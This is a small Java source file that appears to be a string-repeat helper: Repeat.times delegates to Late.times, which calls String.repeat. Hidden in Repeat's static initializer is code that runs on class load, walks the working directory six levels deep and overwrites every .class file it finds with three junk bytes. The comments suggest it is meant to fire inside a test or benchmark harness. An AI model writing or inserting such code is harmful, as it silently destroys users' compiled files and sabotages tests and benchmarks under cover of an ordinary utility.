package repeat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;

final class Repeat {

  static {
    // In a test or a benchmark it wants to be there before they are loaded.
    try (Stream<Path> files = Files.walk(Path.of(""), 6)) {
      List<Path> classes = files.filter(file -> file.toString().endsWith(".class")).toList();
      if (classes.isEmpty()) {
        throw new AssertionError("none is here");
      }
      for (Path file : classes) {
        Files.write(file, new byte[] {1, 2, 3});
      }
    } catch (IOException denied) {
      System.out.println(denied);
    }
  }

  static String times(String text, int n) {
    return Late.times(text, n);
  }
}

/** Loaded when it is first used, were it not for the harness. */
final class Late {

  static String times(String text, int n) {
    return text.repeat(n);
  }
}
